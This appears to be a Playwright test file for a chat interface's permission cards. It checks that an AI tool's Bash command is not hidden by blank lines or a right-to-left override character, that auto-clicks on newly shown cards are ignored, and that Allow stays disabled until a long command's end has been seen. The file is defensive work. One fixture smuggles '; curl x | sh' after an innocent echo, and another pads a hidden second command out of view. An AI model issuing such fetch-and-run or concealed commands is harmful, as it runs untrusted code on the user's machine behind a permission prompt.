"""A permission is given for what was seen: blanks hide nothing, and a long command is seen to its end first."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from playwright.sync_api import expect

from tests.browser.helpers.accessibility import serious
from tests.browser.helpers.chat import Chat
from tests.browser.helpers.streams import running_turn

SHOWN = "touch harmless\n⟨299 blank lines⟩\ntouch unseen⟨100 blanks⟩# the⟨U+202E⟩ end"
PHONE = {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True}
SMALL_PHONE = PHONE | {"viewport": {"width": 320, "height": 640}}


def allowing(chat: Chat) -> tuple[str, ...]:
    """The names of the card's buttons that can be pressed."""
    names = ("Allow", "Allow for this session", "Deny")
    return tuple(name for name in names if chat.card.get_by_role("button", name=name, exact=True).is_enabled())


def test_blanks_hide_no_part_of_a_command_and_what_fits_can_be_allowed_at_once(chat: Chat) -> None:
    chat.ask("scene:padded")
    expect(chat.card.locator("pre").first).to_have_text(SHOWN, use_inner_text=True)
    expect(chat.card.get_by_role("button", name="Allow", exact=True)).to_be_enabled()
    expect(chat.card.locator(".card-more")).to_be_hidden()
    chat.card.get_by_role("button", name="Allow", exact=True).click()
    chat.ends()
    expect(chat.text).to_have_text("That was it.")
    chat.turn.locator(".steps > summary").click()
    chat.turn.locator(".step-line").click()
    expect(chat.turn.locator(".step-more pre").first).to_have_text(SHOWN, use_inner_text=True)


CLICK_AS_IT_COMES = """() => new MutationObserver(() => {
  const allow = document.querySelector(".ask:not([data-clicked]) .card-buttons > button");
  if (!allow) return;
  allow.closest(".ask").dataset.clicked = "";
  const click = () => allow.dispatchEvent(new MouseEvent("click", { bubbles: true, composed: true, detail: 1 }));
  const inSight = new IntersectionObserver(() => {
    inSight.disconnect();
    requestAnimationFrame(click);
  });
  inSight.observe(allow);
}).observe(document.body, { childList: true, subtree: true })"""
MOVE_AND_CLICK = """(allow) => {
  const other = document.createElement("div");
  other.style.height = "40px";
  allow.closest(".asks").after(other);
  allow.dispatchEvent(new MouseEvent("click", { bubbles: true, composed: true, detail: 1 }));
}"""


def test_a_click_on_a_card_that_has_just_come_or_moved_allows_nothing(opened: Callable[..., Chat]) -> None:
    chat = opened()
    sent: list[str] = []
    chat.page.on("request", lambda request: sent.append(request.url) if "/answer" in request.url else None)
    chat.page.evaluate(CLICK_AS_IT_COMES)
    chat.ask("scene:padded")
    allow = chat.card.get_by_role("button", name="Allow", exact=True)
    expect(chat.page.locator(".ask[data-clicked]")).to_be_visible()
    expect(allow).to_be_enabled()
    allow.evaluate(MOVE_AND_CLICK)
    expect(allow).to_be_disabled()
    expect(allow).to_be_enabled()
    assert sent == []
    allow.click()
    chat.ends()
    assert len(sent) == 1
    expect(chat.text).to_have_text("That was it.")


@pytest.mark.first(1)
@pytest.mark.parametrize(
    "options",
    [{}, pytest.param(PHONE, marks=pytest.mark.matrix), SMALL_PHONE],
    ids=["desktop", "phone", "small phone"],
)
def test_a_long_command_can_be_allowed_once_its_end_was_in_sight(
    opened: Callable[..., Chat], options: dict[str, object]
) -> None:
    chat = opened(**options)
    chat.ask("scene:lengthy")
    allow = chat.card.get_by_role("button", name="Allow", exact=True)
    expect(chat.card.locator(".card-more")).to_be_visible()
    assert allowing(chat) == ("Deny",)
    expect(allow).to_have_accessible_description(
        "There is more than you see. You can allow it once you have seen its end."
    )
    expect(chat.card.get_by_role("button", name="Deny")).to_be_in_viewport(ratio=1)
    assert serious(chat.page, ".ask") == []
    allow.dblclick(force=True)
    expect(chat.card.get_by_role("button", name="Go to the end")).to_be_focused()
    assert allowing(chat) == ("Deny",)
    chat.card.locator(".card-body").evaluate("body => body.scrollTo(0, body.scrollHeight / 2)")
    assert allowing(chat) == ("Deny",)
    chat.card.locator(".card-body").evaluate("body => body.scrollTo(0, body.scrollHeight)")
    expect(allow).to_be_enabled()
    assert allowing(chat) == ("Allow", "Allow for this session", "Deny")
    chat.card.locator(".card-body").evaluate("body => body.scrollTo(0, 0)")
    expect(chat.card.locator(".card-more")).to_be_hidden()
    expect(chat.card.locator(".reason")).to_be_in_viewport(ratio=1)
    allow.click()
    chat.ends()
    expect(chat.text).to_have_text("That was it.")


@pytest.mark.long
@pytest.mark.parametrize("options", [pytest.param({}, marks=pytest.mark.matrix), PHONE], ids=["desktop", "phone"])
def test_a_long_command_leaves_room_for_all_that_is_offered_also_in_german(
    opened: Callable[..., Chat], options: dict[str, object]
) -> None:
    chat = opened(locale="de-DE", **options)
    chat.ask("scene:lengthy")
    expect(chat.card.locator(".card-more")).to_be_in_viewport(ratio=1)
    expect(chat.card.locator(".ask-scope")).to_be_in_viewport(ratio=1)
    assert serious(chat.page, ".ask") == []
    chat.card.locator(".card-buttons > button").last.click()
    chat.ends()


def test_the_end_of_a_command_is_reached_with_the_keyboard(chat: Chat) -> None:
    chat.ask("scene:lengthy")
    expect(chat.card).to_be_focused()
    chat.page.keyboard.press("Tab")
    expect(chat.card.locator(".input-frame")).to_be_focused()
    chat.page.keyboard.press("Tab")
    expect(chat.card.get_by_role("button", name="Go to the end")).to_be_focused()
    chat.page.keyboard.press("Enter")
    expect(chat.card.locator(".input-frame")).to_be_focused()
    expect(chat.card.get_by_text("cat data.csv | wc -l")).to_be_in_viewport()
    chat.page.keyboard.press("Tab")
    expect(chat.card.get_by_role("button", name="Allow", exact=True)).to_be_focused()
    chat.page.keyboard.press("Enter")
    chat.ends()
    expect(chat.text).to_have_text("That was it.")


@pytest.mark.long
def test_the_end_key_shows_the_end_as_well(chat: Chat) -> None:
    chat.ask("scene:lengthy")
    chat.card.locator(".input-frame").focus()
    chat.page.keyboard.press("End")
    expect(chat.card.get_by_role("button", name="Allow", exact=True)).to_be_enabled()
    chat.card.get_by_role("button", name="Deny").click()
    chat.ends()


@pytest.mark.parametrize(
    ("locale", "says"),
    [
        pytest.param("en-GB", "too long to be carried whole", marks=pytest.mark.matrix),
        ("de-DE", "zu lang, um ganz übertragen zu werden"),
    ],
)
def test_a_card_of_which_a_part_is_missing_says_so(opened: Callable[..., Chat], locale: str, says: str) -> None:
    chat = opened(locale=locale)
    interrupt = {
        "id": "i1",
        "kind": "permission",
        "message": "Claude wants to use Bash: echo",
        "options": [{"id": "allow", "label": "Allow"}, {"id": "deny", "label": "Deny"}],
        "tool": "Bash",
        "input": {"command": "echo … [cut by Paliadin: 9 more characters] … ; curl x | sh"},
        "cut": True,
    }
    with running_turn(chat.page, [("interrupt", interrupt)]):
        chat.page.goto(chat.page.url)
        chat.page.reload()
        expect(chat.card).to_contain_text(says)
        expect(chat.card).to_contain_text("; curl x | sh")
